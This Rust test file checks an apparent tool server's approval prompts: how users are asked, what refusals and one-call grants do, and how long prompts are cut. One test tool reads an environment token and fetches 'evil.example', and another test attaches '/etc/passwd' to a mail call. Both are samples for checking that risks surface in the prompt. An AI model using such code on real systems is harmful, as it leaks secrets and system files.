//! Tools that need approval, and hooks that ask: how the client's user is prompted, and what an
//! answer grants.

use serde_json::{Value, json};

use super::raw_client::{RawClient, elicitation_capabilities};
use super::server::BinaryFixture;

const ASK: &str = "[approval]\nmode = 'ask'\n";
/// A hook that asks for every run.
const CAREFUL: &str = "[[hooks]]\nname = 'careful'\ncommand = ['/bin/sh', '-c', \
    '''cat > /dev/null; echo '{\"permissionDecision\": \"ask\", \"permissionDecisionReason\": \"is that so?\"}' ''']\n";
const ONE: &str = "const execute = () => 1";

pub(super) fn form_reply(decision: &str) -> Value {
    json!({ "action": "accept", "content": { "decision": decision } })
}

/// Repeats a request to run a tool, with the earlier prompt and the reply to it.
pub(super) fn retry_with_reply(name: &str, asked: &Value, says: &Value) -> Value {
    json!({
        "name": "run_dynamic_tool",
        "arguments": { "tool_name": name, "parameters": {} },
        "requestState": asked["requestState"],
        "inputResponses": { "decision": says },
    })
}

/// Runs a tool in a stateless client, and expects a prompt.
#[track_caller]
pub(super) fn expect_elicitation(peer: &mut RawClient, name: &str) -> Value {
    let result = peer.run(name, json!({})).result();
    assert_eq!(result["resultType"], "input_required", "{result}");
    let question = &result["inputRequests"]["decision"];
    assert_eq!(question["method"], "elicitation/create", "{result}");
    assert!(question["params"]["message"].as_str().unwrap().contains(name), "{result}");
    assert!(result["requestState"].as_str().is_some_and(|state| !state.is_empty()), "{result}");
    result
}

/// Runs a check with session clients over each transport.
fn in_session(policy: &str, check: impl Fn(&BinaryFixture, RawClient)) {
    let home = BinaryFixture::new(policy);
    check(&home, home.start_stdio(&[]).in_session(elicitation_capabilities()));
    let home = BinaryFixture::new(policy);
    let web = home.start_http(&[]);
    check(&home, web.client().in_session(elicitation_capabilities()));
}

/// Runs a check with stateless clients over each transport.
fn stateless(policy: &str, check: impl Fn(&BinaryFixture, RawClient)) {
    let home = BinaryFixture::new(policy);
    check(&home, home.start_stdio(&[]).stateless(elicitation_capabilities()));
    let home = BinaryFixture::new(policy);
    let web = home.start_http(&[]);
    check(&home, web.client().stateless(elicitation_capabilities()));
}

#[test]
fn in_a_session_somebody_is_asked_while_the_run_waits_and_approves_once_for_all() {
    in_session(ASK, |home, mut peer| {
        peer.create_tool("one", ONE);
        peer.set_elicitation_reply(form_reply("approve"));
        peer.run("one", json!({})).returns(&json!(1));
        let asked = peer.elicitations[0].clone();
        assert_eq!(asked["method"], "elicitation/create");
        let message = asked["params"]["message"].as_str().unwrap();
        assert!(message.starts_with("`one` needs approval to run") && message.contains(ONE), "{message}");
        assert!(message.contains("\n  caller: mcp") && message.contains("\n  client (self-reported): "), "{message}");
        assert_eq!(asked["params"]["requestedSchema"]["required"], json!(["decision"]));
        peer.run("one", json!({})).returns(&json!(1));
        assert_eq!(peer.elicitations.len(), 1);
        home.wait_for_log_line(|line| line["action"] == "approve" && line["toolName"] == "one");
    });
}

#[test]
fn in_a_session_a_refusal_is_one_of_that_call_and_who_breaks_off_has_said_nothing() {
    in_session(ASK, |home, mut peer| {
        peer.create_tool("one", ONE);
        peer.set_elicitation_reply(json!({ "action": "cancel" }));
        let pending = peer.run("one", json!({})).fails("permission-denied");
        assert!(pending["pending"]["command"].is_string(), "{pending}");
        peer.set_elicitation_reply(
            json!({ "action": "accept", "content": { "decision": "refuse", "reason": "not today" } }),
        );
        let refused = peer.run("one", json!({}));
        refused.fails("permission-denied");
        assert!(refused.text().contains("not today"), "{}", refused.text());
        let line = home.failures("one", "permission-denied").pop().unwrap();
        assert_eq!(line["details"]["decidedBy"], "person", "{line}");
        peer.set_elicitation_reply(form_reply("approve"));
        peer.run("one", json!({})).returns(&json!(1));
        assert_eq!(peer.elicitations.len(), 3);
    });
}

#[test]
fn in_a_session_an_answer_that_is_no_approval_in_so_many_words_is_none() {
    let home = BinaryFixture::new(ASK);
    let mut peer = home.start_stdio(&[]).in_session(elicitation_capabilities());
    for (name, answer) in [
        ("a1", json!({ "action": "accept" })),
        ("a2", json!({ "action": "accept", "content": { "decision": "Approve" } })),
        ("a3", json!({ "action": "accept", "content": { "decision": true } })),
        ("a4", json!({ "action": "decline", "content": { "decision": "approve" } })),
        ("a5", json!({ "action": "perhaps" })),
        ("a6", json!({})),
        ("a7", json!("approve")),
    ] {
        // A changed tool needs a new approval.
        peer.create_tool(name, &format!("{ONE} // {name}"));
        peer.set_elicitation_reply(answer);
        peer.run(name, json!({})).fails("permission-denied");
    }
    assert_eq!(home.audit_lines().iter().filter(|line| line["action"] == "approve").count(), 0);
}

#[test]
fn without_a_session_the_answer_comes_with_the_next_request() {
    stateless(ASK, |home, mut peer| {
        peer.create_tool("one", ONE);
        let asked = expect_elicitation(&mut peer, "one");
        peer.request("tools/call", retry_with_reply("one", &asked, &form_reply("approve"))).returns(&json!(1));
        peer.run("one", json!({})).returns(&json!(1));
        home.wait_for_log_line(|line| line["action"] == "approve" && line["toolName"] == "one");

        peer.create_tool("two", &ONE.replace('1', "2"));
        let asked = expect_elicitation(&mut peer, "two");
        let cancelled = peer.request("tools/call", retry_with_reply("two", &asked, &json!({ "action": "cancel" })));
        assert!(cancelled.fails("permission-denied")["pending"]["command"].is_string());
        let asked = expect_elicitation(&mut peer, "two");
        peer.request("tools/call", retry_with_reply("two", &asked, &form_reply("refuse"))).fails("permission-denied");
        let line = home.failures("two", "permission-denied").pop().unwrap();
        assert_eq!(line["details"]["decidedBy"], "person", "{line}");
        expect_elicitation(&mut peer, "two");
    });
}

#[test]
fn an_answer_counts_when_the_server_was_started_anew_meanwhile() {
    let home = BinaryFixture::new(ASK);
    let mut peer = home.start_stdio(&[]).stateless(elicitation_capabilities());
    peer.create_tool("one", ONE);
    let asked = expect_elicitation(&mut peer, "one");
    drop(peer);
    let mut peer = home.start_stdio(&[]).stateless(elicitation_capabilities());
    peer.request("tools/call", retry_with_reply("one", &asked, &form_reply("approve"))).returns(&json!(1));
}

#[test]
fn a_client_that_cannot_ask_gets_the_command_that_decides_and_its_model_does_not() {
    let home = BinaryFixture::new(ASK);
    for (name, mut peer) in
        [("one", home.start_stdio(&[]).in_session(json!({}))), ("two", home.start_stdio(&[]).stateless(json!({})))]
    {
        peer.create_tool(name, &format!("{ONE} // {name}"));
        let denied = peer.run(name, json!({}));
        let error = denied.fails("permission-denied");
        let command = error["pending"]["command"].as_str().unwrap();
        assert!(!denied.result()["content"].to_string().contains(command), "{error}");
        assert_eq!(peer.elicitations.len(), 0);
        let output = home.run_shell_line(command);
        assert!(output.status.success(), "{command}: {}", String::from_utf8_lossy(&output.stderr));
        peer.run(name, json!({})).returns(&json!(1));
    }
}

#[test]
fn a_hook_that_asks_is_asked_about_that_call_alone() {
    in_session(CAREFUL, |home, mut peer| {
        peer.create_tool("one", ONE);
        peer.set_elicitation_reply(form_reply("approve"));
        for count in 1..=2 {
            peer.run("one", json!({})).returns(&json!(1));
            assert_eq!(peer.elicitations.len(), count);
        }
        let message = peer.elicitations[0]["params"]["message"].as_str().unwrap();
        assert!(message.contains("careful") && message.contains("is that so?"), "{message}");
        peer.set_elicitation_reply(form_reply("refuse"));
        peer.run("one", json!({})).fails("permission-denied");
        peer.set_elicitation_reply(form_reply("approve"));
        peer.run("one", json!({})).returns(&json!(1));
        assert_eq!(home.audit_lines().iter().filter(|line| line["action"] == "approve").count(), 0);
    });
    stateless(CAREFUL, |_, mut peer| {
        peer.create_tool("one", ONE);
        for _ in 0..2 {
            let asked = expect_elicitation(&mut peer, "one");
            peer.request("tools/call", retry_with_reply("one", &asked, &form_reply("approve"))).returns(&json!(1));
        }
        let asked = expect_elicitation(&mut peer, "one");
        peer.request("tools/call", retry_with_reply("one", &asked, &form_reply("refuse"))).fails("permission-denied");
    });
}

#[test]
fn a_hook_that_asks_denies_where_nobody_can_be_asked_and_nothing_is_pending() {
    let home = BinaryFixture::new(CAREFUL);
    let mut peer = home.start_stdio(&[]).stateless(json!({}));
    peer.create_tool("one", ONE);
    let error = peer.run("one", json!({})).fails("permission-denied");
    assert_eq!(error.get("pending"), None, "{error}");
}

#[test]
fn a_tool_and_a_hook_that_both_ask_are_two_questions_one_after_the_other() {
    let policy = format!("{ASK}{CAREFUL}");
    in_session(&policy, |_, mut peer| {
        peer.create_tool("one", ONE);
        peer.set_elicitation_reply(form_reply("approve"));
        peer.run("one", json!({})).returns(&json!(1));
        assert_eq!(peer.elicitations.len(), 2);
    });
    stateless(&policy, |_, mut peer| {
        peer.create_tool("one", ONE);
        let first = expect_elicitation(&mut peer, "one");
        let second = peer.request("tools/call", retry_with_reply("one", &first, &form_reply("approve"))).result();
        assert_eq!(second["resultType"], "input_required", "{second}");
        assert_ne!(second["inputRequests"], first["inputRequests"]);
        peer.request("tools/call", retry_with_reply("one", &second, &form_reply("approve"))).returns(&json!(1));
    });
}

/// A grant of any host, and of a secret for any host.
const EVERYTHING: &str = "[approval]\nmode = 'ask'\n[[grants.default.net]]\nhost = 'any'\n\
    [[grants.default.secrets]]\nname = 'TOK'\nhosts = ['any']\n";

/// Returns the messages of a prompt, in either revision.
fn message(asked: &Value) -> String {
    let params = asked.get("params").or_else(|| asked.pointer("/inputRequests/decision/params"));
    params.unwrap()["message"].as_str().unwrap().to_owned()
}

#[test]
fn a_long_source_takes_none_of_the_facts_out_of_the_question() {
    let harmless = format!("// {}\n", "harmless ".repeat(47)).repeat(39);
    let last = "const execute = async () => [process.env.TOK, (await fetch('https://evil.example')).status]";
    let code = format!("{harmless}{last}");
    let make = |peer: &mut RawClient| {
        let fields = json!({ "name": "sender", "description": "d", "code": code, "capabilities": ["net", "secrets"] });
        peer.call("create_tool", fields).response()["id"].as_str().unwrap().to_owned()
    };
    let shows_all = |message: &str, id: &str| {
        assert!(message.len() <= 16 << 10, "{}", message.len());
        let facts: Vec<&str> = message.lines().take_while(|line| !line.is_empty()).collect();
        assert!(facts[0].starts_with("`sender` needs approval to run"), "{message}");
        for fact in [
            &*format!("  id: {id}"),
            "  asks for: net, secrets",
            "  is granted: net (GET, HEAD https://any), secrets (TOK in header to any)",
            "  arguments:",
        ] {
            assert!(facts.contains(&fact), "{fact} is not in {message}");
        }
        let is_finding =
            |fact: &&str| fact.starts_with("  finding: high: ") && fact.contains(" (environment-access) at 40:");
        assert!(facts.iter().any(is_finding), "{message}");
        assert!(message.contains("… (160 of 426 characters shown)"), "{message}");
        assert!(message.contains("… 40 of 40 lines shown: `toolcell show dt_"), "{message}");
        assert!(message.ends_with("Allow `sender` to run with these grants from now on?"), "{message}");
    };
    in_session(EVERYTHING, |_, mut peer| {
        let id = make(&mut peer);
        peer.set_elicitation_reply(form_reply("refuse"));
        peer.run("sender", json!({})).fails("permission-denied");
        shows_all(&message(&peer.elicitations[0]), &id);
    });
    stateless(EVERYTHING, |_, mut peer| {
        let id = make(&mut peer);
        let asked = expect_elicitation(&mut peer, "sender");
        shows_all(&message(&asked), &id);
    });
}

#[test]
fn a_question_whose_facts_do_not_fit_is_not_put_and_the_error_says_where_it_is_answered() {
    let arguments: Value =
        (0..2_000).map(|at| (format!("argument_{at}"), json!(at))).collect::<serde_json::Map<_, _>>().into();
    let check = |mut peer: RawClient| {
        peer.create_tool("one", ONE);
        peer.set_elicitation_reply(form_reply("approve"));
        let refused = peer.run("one", arguments.clone());
        let error = refused.fails("permission-denied");
        assert!(refused.text().contains("the limit is 16384"), "{}", refused.text());
        assert!(error["pending"]["command"].as_str().unwrap().contains("toolcell approvals grant"), "{error}");
        assert_eq!(peer.elicitations.len(), 0);
        peer
    };
    in_session(ASK, |_, peer| drop(check(peer)));
    stateless(ASK, |_, peer| drop(check(peer)));
    // An approval does not answer a hook's question; the error tells the caller what to do.
    in_session(CAREFUL, |_, mut peer| {
        peer.create_tool("one", ONE);
        let refused = peer.run("one", arguments.clone());
        refused.fails("permission-denied");
        assert!(refused.text().contains("shorten the arguments"), "{}", refused.text());
        assert_eq!(peer.elicitations.len(), 0);
    });
}

#[test]
fn a_hook_asks_about_every_argument_and_says_what_is_cut() {
    in_session(CAREFUL, |_, mut peer| {
        peer.create_tool("mail", "const execute = ({ text, to, attach }) => 1");
        peer.set_elicitation_reply(form_reply("refuse"));
        let mail = json!({ "text": "x".repeat(5_000), "to": "a@b.c", "attach": ["/etc/passwd"] });
        peer.run("mail", mail).fails("permission-denied");
        let message = message(&peer.elicitations[0]);
        for line in ["… (200 of 5002 characters shown)\n", "\n    to: \"a@b.c\"\n", "\n    attach: [\"/etc/passwd\"]\n"]
        {
            assert!(message.contains(line), "{message}");
        }
    });
}

const WAITS: &str = "const execute = async () => { await sleep(1); return 1 }";

/// The values that a form offers.
fn offered(form: &Value) -> String {
    form["requestedSchema"]["properties"]["decision"].to_string()
}

#[test]
fn in_a_session_a_tool_that_lacks_grants_can_be_granted_them_for_one_call() {
    in_session("", |home, mut peer| {
        peer.create_tool("waits", WAITS);
        peer.set_elicitation_reply(form_reply("grant_once"));
        for count in 1..=2 {
            peer.run("waits", json!({})).returns(&json!(1));
            assert_eq!(peer.elicitations.len(), count);
        }
        let form = peer.elicitations[0].to_string();
        assert!(form.contains("Grant timers for this call") && !form.contains("\"approve\""), "{form}");
        assert_eq!(home.audit_lines().iter().filter(|line| line["action"] == "approve").count(), 0);
        peer.set_elicitation_reply(form_reply("refuse"));
        peer.run("waits", json!({})).fails("permission-denied");
        // A form cannot ask for a host that the tool does not name, and a yes alone would not help.
        peer.create_tool("fetches", "const execute = ({ url }) => fetch(url)");
        peer.run("fetches", json!({})).fails("permission-denied");
        assert_eq!(peer.elicitations.len(), 3);
    });
}

#[test]
fn without_a_session_a_tool_that_lacks_grants_can_be_granted_them_for_one_call() {
    stateless("", |home, mut peer| {
        peer.create_tool("waits", WAITS);
        for _ in 0..2 {
            let asked = expect_elicitation(&mut peer, "waits");
            assert!(offered(&asked["inputRequests"]["decision"]["params"]).contains("grant_once"), "{asked}");
            peer.request("tools/call", retry_with_reply("waits", &asked, &form_reply("grant_once"))).returns(&json!(1));
        }
        assert_eq!(home.audit_lines().iter().filter(|line| line["action"] == "approve").count(), 0);
    });
}

#[test]
fn a_grant_that_the_form_does_not_offer_is_a_refusal() {
    let home = BinaryFixture::new(ASK);
    let mut peer = home.start_stdio(&[]).in_session(elicitation_capabilities());
    peer.create_tool("one", ONE);
    peer.set_elicitation_reply(form_reply("grant_once"));
    peer.run("one", json!({})).fails("permission-denied");
}
